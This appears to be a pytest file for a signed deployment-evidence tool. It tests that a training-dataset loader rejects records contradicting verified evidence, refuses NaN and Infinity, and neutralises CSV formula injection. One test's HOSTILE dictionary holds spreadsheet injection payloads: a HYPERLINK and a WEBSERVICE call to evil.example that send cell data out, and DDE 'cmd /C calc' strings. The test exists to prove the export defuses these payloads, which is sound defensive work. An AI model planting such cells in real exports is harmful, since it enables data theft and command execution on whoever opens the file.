"""A dataset row must never say what its own verified evidence contradicts.

Every branch here verifies (signed by the trusted key, time-stamped by the real TSA
fixture, sealed): what is wrong is *inside* the signed training record, which a buggy or
hostile writer holding the key could produce. The loader cross-checks every field a row
takes from the training record against the other verified records that hold it (the
decision record, the genesis record's deployment facts, the mark record's time, the
stored workflow, the signed import marker), and refuses numbers that are not I-JSON
(NaN, Infinity, 1e400), leaving such branches out with a counted reason.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli

from afdp.evidence import canonical as canonical_module
from afdp.evidence import records as rec
from afdp.evidence.canonical import sha256_hex
from afdp.evidence.ledger import append_record, seal
from afdp.evidence.signing import load_signer
from afdp.evidence.store import init_repository
from afdp.learn.dataset import export_dataset
from afdp.learn.history import load_history, strict_json
from afdp.pipeline.training import build_training_record
from afdp.verify.verifier import check_branch

SECONDS = {"symbol": "s", "dimension": "time", "factor": 1}
DEPLOYED = "2026-01-05T09:30:00Z"
INFO = {"commit": "c0ffee1", "environment": "prod", "version": "v7", "changed_files": ["src/app.py", "db/x.sql"],
        "deployment_size": 12, "deployer": "ci", "deployed_at": DEPLOYED}
ROLLBACK = {"decision": "rollback_on_regression", "action": "rollback", "label": "regression_rolled_back",
            "success_criteria_met": False}
WORKFLOW = b"""name: labelled
version: "1"
triggers: [manual_trigger]
workflow:
  deployment:
    - mark_deployment_time
  post_deployment:
    - decisions
    - generate_training_record:
        training_label: reviewed_by_hand
decisions:
  rollback_on_regression:
    condition: "true"
    action: rollback
    training_label: regression_rolled_back
"""


def _analysis() -> dict:
    latency = {
        "status": "ok", "unit": SECONDS, "better": "lower", "baseline": 0.1, "impact": 0.16, "increase": 0.06,
        "change": 0.6, "factor": 1.6, "p_value": 0.001, "significant": True, "exceeded": True, "degraded": True,
        "test": {"effect_size": {"name": "cliffs_delta", "value": 0.8}},
    }
    return {"metrics": {"latency_p99": latency},
            "summary": {"any_degradation": True, "significant_degradation": True,
                        "all_metrics_within_normal": False, "inconclusive": []}}


def _compiled_digest(raw: bytes) -> str:
    from afdp.workflow.compiler import compile_document
    from afdp.workflow.loader import decode, parse

    return compile_document(replace(parse(decode("w", raw), name="w"), raw=raw)).digest


def deployment(
    repo: Path, signer, tsa_url: str, name: str, *,
    change: Callable[[dict], Any] = lambda r: None,
    decision: dict | None = ROLLBACK,
    label: str | None = None,
    workflow: bytes | None = None,
    training_result: Callable[[dict], dict] = lambda r: {"record": r, "record_type": "training"},
    mark: str | None = DEPLOYED,
    info: dict | None = None,
    analysis: dict | None = None,
) -> None:
    """One deployment written with the ledger API; ``change`` edits the training record
    before it is signed (what a buggy or hostile writer with the key could sign)."""
    digest = _compiled_digest(workflow) if workflow is not None else None
    info = dict(INFO if info is None else info)
    metadata: dict = {"deployment": info}
    attachments = None
    if workflow is not None:
        metadata["workflow"] = {"sha256": digest, "file": {"path": "workflow.yaml", "sha256": sha256_hex(workflow),
                                                           "size": len(workflow)}}
        attachments = {"workflow.yaml": workflow}

    def add(step: str, result: dict) -> dict:
        written = append_record(
            repo, service="api", deployment=name, signer=signer, tsa_urls=[tsa_url],
            draft=rec.RecordDraft(kind=rec.KIND_STEP, step=step, result=result, workflow_digest=digest),
            genesis_metadata=metadata, genesis_attachments=attachments,
        )
        return {"step": step, "sequence": written[-1].sequence, "sha256": written[-1].envelope_sha256}

    cited = [add("mark_deployment_time", {"outputs": {"deployed_at": mark} if mark else {}})]
    analysis = analysis or _analysis()
    cited.append(add("analyze_differences", {"analysis": analysis, "outputs": {}}))
    if decision is not None:
        cited.append(add("decisions", {"outputs": {}, "decision": decision, "action": {"status": "not_configured"}}))
    record = build_training_record(
        deployment={"service": "api", "id": name, **info}, analysis=analysis, decision=decision, cited=cited,
        label=label,
    )
    change(record)
    add("generate_training_record", training_result(record))
    seal(repo, service="api", deployment=name, signer=signer, tsa_urls=[tsa_url])


@pytest.fixture
def make(tmp_path, keys, tsa):
    repo = tmp_path / "evidence"
    init_repository(repo)
    signer = load_signer(str(keys / "dev.key"))
    return repo, lambda name, **kw: deployment(repo, signer, tsa.url, name, **kw)


def _reasons(history) -> dict[str, str]:
    return {e.branch.rsplit("/", 1)[-1]: e.reason for e in history.excluded}


def test_decision_and_label_must_be_the_decision_records(make, trust_file):
    repo, build = make
    success = {"decision": "all_clear", "action": "mark_successful", "label": "safe_deployment",
               "success_criteria_met": True}
    build("good")
    build("relabelled", change=lambda r: (r["decision"].update(success), r.update(label="safe_deployment")))
    build("label-only", change=lambda r: r.update(label="safe_deployment"))
    build("criteria", change=lambda r: r["decision"].update(success_criteria_met=True))
    build("dropped", change=lambda r: r.update(decision=None))
    build("invented", decision=None, change=lambda r: r.update(decision=dict(ROLLBACK)))
    history = load_history(repo, trust_file)
    assert [r["deployment"] for r in history.rows] == ["good"]
    assert (history.rows[0]["decision"], history.rows[0]["label"]) == ("rollback_on_regression", "regression_rolled_back")
    reasons = _reasons(history)
    where = "training record (record 4)"
    assert reasons["relabelled"] == (
        f"{where} gives decision.decision 'all_clear', the decision record (record 3, decisions) 'rollback_on_regression'")
    assert reasons["label-only"] == (
        f"{where} gives label 'safe_deployment', the decision record (record 3, decisions) 'regression_rolled_back', "
        "and no stored workflow names it as the step's training_label")
    assert reasons["criteria"] == (
        f"{where} gives decision.success_criteria_met True, the decision record (record 3, decisions) False")
    assert reasons["dropped"] == f"{where} gives no decision, the decision record (record 3, decisions) rollback ('rollback_on_regression')"
    assert reasons["invented"] == (
        "training record (record 3) gives decision 'rollback_on_regression' (rollback), "
        "but no decision record on the branch before it holds one")
    # counted, as the datasheet counts them
    assert history.excluded_by_reason() == {"training record contradicts the decision record": 5}


def test_a_label_override_must_be_the_stored_workflows(make, trust_file):
    """The step's own training_label (in the workflow the genesis stores) may replace the
    decision's label; any other label may not."""
    repo, build = make
    build("override", workflow=WORKFLOW, label="reviewed_by_hand")
    build("other", workflow=WORKFLOW, label="reviewed_by_hand", change=lambda r: r.update(label="safe_deployment"))
    build("no-decision", workflow=WORKFLOW, decision=None, label="made_up")
    history = load_history(repo, trust_file)
    assert [(r["deployment"], r["label"]) for r in history.rows] == [("override", "reviewed_by_hand")]
    reasons = _reasons(history)
    assert reasons["other"] == (
        "training record (record 4) gives label 'safe_deployment', the decision record (record 3, decisions) "
        "'regression_rolled_back', and the stored workflow's step generate_training_record names 'reviewed_by_hand'")
    assert reasons["no-decision"] == (
        "training record (record 3) gives label 'made_up', no decision record gives one, and the stored "
        "workflow's step generate_training_record names 'reviewed_by_hand'")


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        ("version", lambda r: r["features"].update(version="v8"), "gives version 'v8', the genesis record 'v7'"),
        ("environment", lambda r: r["features"].update(environment="staging"),
         "gives environment 'staging', the genesis record 'prod'"),
        ("commit", lambda r: r["features"].update(commit="bad0bad"), "gives commit 'bad0bad', the genesis record 'c0ffee1'"),
        ("size", lambda r: r["features"].update(change_size=4000), "gives change_size 4000, the genesis record 12"),
        ("files", lambda r: r["features"].update(changed_files_count=1), "gives changed_files_count 1, the genesis record 2"),
        ("time", lambda r: r["features"].update(deployed_at="2026-01-05T15:30:00Z", hour_utc=15),
         "gives deployed_at '2026-01-05T15:30:00Z', the mark_deployment_time record (record 1) '2026-01-05T09:30:00Z'"),
        ("hour", lambda r: r["features"].update(hour_utc=15), "gives hour_utc 15, its deployed_at '2026-01-05T09:30:00Z' is 9"),
        ("weekday", lambda r: r["features"].update(weekday_utc=5, weekday_name="saturday"),
         "gives weekday_utc 5, its deployed_at '2026-01-05T09:30:00Z' is 0"),
        ("imported", lambda r: r.update(imported=True), "says imported True, its signed predicates False"),
        ("service", lambda r: r["features"].update(service="web"), "names another deployment (web/service)"),
    ],
)
def test_deployment_facts_must_agree_with_the_records_that_hold_them(make, trust_file, name, change, reason):
    repo, build = make
    build("good")
    build(name, change=change)
    history = load_history(repo, trust_file)
    assert [r["deployment"] for r in history.rows] == ["good"]
    assert _reasons(history) == {name: f"training record (record 4) {reason}"}


def test_unknown_facts_contradict_nothing(make, trust_file):
    """A fact one record leaves null is unknown, not contradicted: the row keeps it null."""
    repo, build = make
    build("no-version", change=lambda r: r["features"].update(version=None))
    build("no-mark", mark=None)
    history = load_history(repo, trust_file)
    assert history.excluded == []
    rows = {r["deployment"]: r for r in history.rows}
    assert rows["no-version"]["version"] is None and rows["no-mark"]["deployed_at"] == "2026-01-05T09:30:00.000000Z"


# -- numbers that are not numbers ------------------------------------------------------------
def test_strict_json_refuses_what_rfc8785_cannot_write():
    assert strict_json(b'{"a": 1.5, "b": [1, -2, 9007199254740991]}') == {"a": 1.5, "b": [1, -2, 9007199254740991]}
    for text in ('{"a": NaN}', '{"a": Infinity}', '{"a": -Infinity}', '{"a": 1e400}', '{"a": 9007199254740992}'):
        with pytest.raises(ValueError, match="holds"):
            strict_json(text)
    # Python's json module writes (and reads) them all: why the loader cannot use it
    assert json.dumps({"a": float("nan")}) == '{"a": NaN}'
    # result.json is checked by its digest only: a key named twice would be read as its
    # last value here and as its first by another reader
    with pytest.raises(ValueError, match="names 'a' twice"):
        strict_json('{"a": 1, "a": 2}')


def _python_json_writer(monkeypatch) -> None:
    """A writer that serializes with Python's ``json`` (which writes NaN and Infinity)
    instead of RFC 8785. Test double: no such writer exists offline to run; everything
    else (signature, time-stamp, Git, verification) is the real one."""
    real = canonical_module.canonical_bytes

    def lenient(value):
        try:
            return real(value)
        except Exception:
            return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()

    monkeypatch.setattr(rec, "canonical_bytes", lenient)


@pytest.mark.parametrize("bad", [float("nan"), float("inf")])
def test_a_non_finite_number_in_result_json_fails_verification_and_never_becomes_a_row(make, trust_file, monkeypatch, tmp_path, bad):
    """result.json must be exactly the canonical result (verification's check 5): a
    training record carrying NaN (or Infinity) there fails its branch, so the loader
    leaves it out with the reason, and the rest of the dataset is still written. (The
    loader's own I-JSON rule, for bytes that got past verification, is tested above.)"""
    repo, build = make
    build("good")

    def poisoned(record: dict) -> dict:
        record["impacts"]["latency_p99"]["impact"] = bad
        # over the inline limit, so the result goes to result.json
        return {"record": record, "record_type": "training", "notes": "x" * (rec.INLINE_RESULT_LIMIT + 1)}

    _python_json_writer(monkeypatch)
    build("poisoned", training_result=poisoned)
    monkeypatch.undo()
    report = check_branch(repo, service="api", deployment="poisoned", policy=_policy(trust_file, repo))
    assert [(f.sequence, f.check) for f in report.failures] == [(4, "digest")], report.failures
    assert "result.json cannot be the canonical result" in report.failures[0].reason
    history = load_history(repo, trust_file)
    assert [r["deployment"] for r in history.rows] == ["good"]
    assert _reasons(history)["poisoned"].startswith("verification failed: digest on record 4")
    result = run_cli("dataset", "export", "--repo", str(repo), "--trust", str(trust_file),
                     "--out", str(tmp_path / "rows.jsonl"), "--json")
    assert result.code == 0, result.err
    assert result.json()["used"] == 1 and result.json()["excluded"] == 1
    assert "NaN" not in (tmp_path / "rows.jsonl").read_text()


def test_a_non_finite_number_inline_fails_verification(make, trust_file, monkeypatch):
    """Inline results are inside the payload, which verification re-canonicalizes: NaN
    there fails the branch (one reason, no traceback), and so no row."""
    repo, build = make
    _python_json_writer(monkeypatch)  # the statement's bytes are made in records too
    build("inline", change=lambda r: r["impacts"]["latency_p99"].update(p_value=float("nan")))
    monkeypatch.undo()
    history = load_history(repo, trust_file)
    assert history.rows == []
    assert _reasons(history)["inline"].startswith("verification failed: schema on record 4")


def _policy(trust_file, repo):
    from afdp.evidence.trust import load_trust_policy

    return load_trust_policy(Path(trust_file), evidence_repository=Path(repo))


def test_export_datasheet_counts_the_contradictions(make, trust_file, tmp_path):
    repo, build = make
    build("good")
    build("relabelled", change=lambda r: r.update(label="safe_deployment"))
    done = export_dataset(repo, trust_file, fmt="jsonl", out=tmp_path / "rows.jsonl")
    sheet = done.datasheet
    assert sheet["counts"]["used"] == 1 and sheet["counts"]["excluded"] == 1
    assert sheet["counts"]["excluded_by_reason"] == {"training record contradicts the decision record": 1}
    assert [e["branch"] for e in sheet["excluded"]] == ["refs/heads/afdp/api/relabelled"]


# -- CSV that no spreadsheet runs ------------------------------------------------------------
HOSTILE = {
    "version": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "environment": "+cmd|' /C calc'!A0",
    "commit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "deployer": "=WEBSERVICE(\"https://evil.example\")",
}


def test_csv_export_carries_no_formula_and_reads_back_exactly(make, trust_file, tmp_path):
    import csv

    from afdp.learn.dataset import read_dataset

    repo, build = make
    decreased = _analysis()
    decreased["metrics"]["latency_p99"].update(baseline=0.16, impact=0.1, increase=-0.06, change=-0.375, factor=0.625)
    info = {**INFO, **HOSTILE}
    build("hostile", info=info, analysis=decreased, decision={**ROLLBACK, "label": "'-1+1"})
    build("quoted", info={**INFO, "version": "'quoted"}, decision={**ROLLBACK, "label": "\t=1+1"})
    csv_out = export_dataset(repo, trust_file, fmt="csv", out=tmp_path / "rows.csv")
    assert csv_out.history.excluded == [], csv_out.history.excluded
    rows = {r["deployment"]: r for r in csv_out.history.rows}
    assert rows["hostile"]["version"] == HOSTILE["version"] and rows["hostile"]["label"] == "'-1+1"
    with open(csv_out.path, newline="") as handle:
        cells = list(csv.DictReader(handle))
    types = {c["column"]: c["type"] for c in csv_out.datasheet["columns"]}
    for row in cells:
        for column, cell in row.items():
            if types[column].startswith("string"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    hostile = next(r for r in cells if r["deployment"] == "hostile")
    assert hostile["version"] == "'" + HOSTILE["version"]
    assert hostile["environment"] == "'" + HOSTILE["environment"]
    assert hostile["commit"] == "'" + HOSTILE["commit"]
    assert hostile["label"] == "''-1+1" and hostile["decision"] == "rollback_on_regression"
    assert hostile["impact.latency_p99.increase"] == "-0.06"  # a number stays a number
    assert HOSTILE["deployer"] not in csv_out.path.read_text()  # never a column
    quoted = next(r for r in cells if r["deployment"] == "quoted")
    assert quoted["version"] == "''quoted" and quoted["label"] == "'\t=1+1"
    assert read_dataset(csv_out.path) == csv_out.history.rows  # exact read-back
    assert "OWASP" in csv_out.datasheet["dataset"]["csv_text_cells"]
    # Parquet and JSON Lines keep every value raw
    for fmt in ("jsonl", "parquet"):
        done = export_dataset(repo, trust_file, fmt=fmt, out=tmp_path / f"rows.{fmt}")
        assert "csv_text_cells" not in done.datasheet["dataset"]
        raw = {r["deployment"]: r for r in read_dataset(done.path)}
        assert raw["hostile"]["version"] == HOSTILE["version"] and raw["quoted"]["version"] == "'quoted"


# -- derived views: the report's verdict is the decision record's ----------------------------
def test_the_report_takes_the_decision_from_the_decision_record_not_a_later_copy(tmp_path, keys, tsa, trust_file):
    """A later record carrying a decision outcome (a store step's copy, an action payload,
    or a forged one) must not become the report's verdict when the signed decision record
    says otherwise."""
    from afdp.audit.report import build_report

    repo = tmp_path / "evidence"
    init_repository(repo)
    signer = load_signer(str(keys / "dev.key"))

    def add(step: str, result: dict, kind: str) -> None:
        append_record(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url],
                      draft=rec.RecordDraft(kind=rec.KIND_STEP, step=step, result=result,
                                            context={"step": {"type": step, "kind": kind, "phase": "post_deployment"}}))

    add("decisions", {"outputs": {}, "decision": {**ROLLBACK, "reason": "latency degraded"},
                      "action": {"status": "not_configured"}}, "decide")
    add("store_results", {"outputs": {}, "decision": {"decision": "all_clear", "action": "mark_successful",
                                                      "label": "safe_deployment", "reason": "all clear"}}, "store")
    seal(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url])
    report = build_report(repo, policy=_policy(trust_file, repo), service="api", deployment="d-1")
    [section] = report.sections
    assert section.findings.decision is not None
    assert (section.findings.decision["action"], section.findings.decision_record) == ("rollback", 1)


def test_a_training_record_that_leaves_out_an_analysed_metric_is_left_out(make, trust_file):
    """Impacts equal the analysis the other way round too: a degraded metric the training
    record leaves out would make the row read as a deployment that did not degrade."""
    repo, build = make
    two = _analysis()
    two["metrics"]["errors"] = dict(two["metrics"]["latency_p99"], degraded=False, exceeded=False)
    build("good", analysis=two)
    build("omitted", analysis=two, change=lambda r: r["impacts"].pop("latency_p99"))
    build("emptied", analysis=two, change=lambda r: r["impacts"].clear())
    history = load_history(repo, trust_file)
    assert [r["deployment"] for r in history.rows] == ["good"]
    reasons = _reasons(history)
    assert reasons["omitted"] == "training record (record 4) gives no impacts of latency_p99, which the cited analysis analysed"
    assert reasons["emptied"] == ("training record (record 4) gives no impacts of errors, latency_p99, "
                                  "which the cited analysis analysed")
    assert history.excluded_by_reason() == {"training record contradicts the analysis it cites": 2}


def test_the_log_shows_the_records_verification_saw_not_a_branch_moved_meanwhile(tmp_path, keys, tsa, trust_file, monkeypatch):
    """``afdp log --trust`` read the records first and verified second: a branch moved in
    between (a writer racing the auditor) showed records that were never verified under a
    "verified" verdict. Test double: the race is made deterministic by moving the branch
    when verification starts (a real concurrent writer cannot be timed); the verifier
    itself is the real one."""
    import base64

    import pygit2
    from tamper import edit, with_file

    import afdp.verify.verifier as verifier
    from afdp.audit.story import read_story
    from afdp.evidence.canonical import canonical_bytes

    repo = tmp_path / "evidence"
    init_repository(repo)
    signer = load_signer(str(keys / "dev.key"))
    append_record(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url],
                  draft=rec.RecordDraft(kind=rec.KIND_STEP, step="decisions", result={"decision": ROLLBACK},
                                        summary="rollback (rollback_on_regression)"))
    seal(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url])
    git = pygit2.Repository(str(repo))
    ref = "refs/heads/afdp/api/d-1"
    verified = git.references[ref].target

    def forge(entry):
        envelope = json.loads(entry.files[rec.ENVELOPE_FILE])
        statement = json.loads(base64.b64decode(envelope["payload"]))
        statement["predicate"]["summary"] = "mark_successful (all clear)"
        envelope["payload"] = base64.b64encode(canonical_bytes(statement)).decode()
        return with_file(entry, rec.ENVELOPE_FILE, canonical_bytes(envelope))

    edit(repo, 1, forge, service="api", deployment="d-1")  # the branch now shows the forgery
    real = verifier.check_branch

    def racing(*args, **kwargs):
        git.references.create(ref, verified, force=True)  # ... and is moved back as verification starts
        return real(*args, **kwargs)

    monkeypatch.setattr(verifier, "check_branch", racing)
    story = read_story(repo, service="api", deployment="d-1", trust=_policy(trust_file, repo))
    assert story["verified"] is True and story["head"] == str(verified)
    summaries = [r["summary"] for r in story["records"]]
    assert "rollback (rollback_on_regression)" in summaries
    assert "mark_successful (all clear)" not in summaries


def test_the_report_takes_the_analysis_from_the_analysis_record(tmp_path, keys, tsa, trust_file):
    """A later record named like an analysis, holding an analysis-like document that says
    otherwise, must not replace the analysis record the signed context names."""
    from afdp.audit.report import build_report

    repo = tmp_path / "evidence"
    init_repository(repo)
    signer = load_signer(str(keys / "dev.key"))

    def add(step: str, result: dict, kind: str) -> None:
        append_record(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url],
                      draft=rec.RecordDraft(kind=rec.KIND_STEP, step=step, result=result,
                                            context={"step": {"type": step, "kind": kind, "phase": "post_deployment"}}))

    add("analyze_differences", {"analysis": _analysis(), "outputs": {}}, "analyze")
    benign = _analysis()
    benign["metrics"]["latency_p99"].update(impact=0.1, increase=0.0, change=0.0, degraded=False)
    add("analysis_summary_for_slack", {"outputs": {}, "analysis": benign}, "store")
    seal(repo, service="api", deployment="d-1", signer=signer, tsa_urls=[tsa.url])
    [section] = build_report(repo, policy=_policy(trust_file, repo), service="api", deployment="d-1").sections
    assert section.findings.analysis_record == 1
    assert section.findings.analysis["metrics"]["latency_p99"]["degraded"] is True
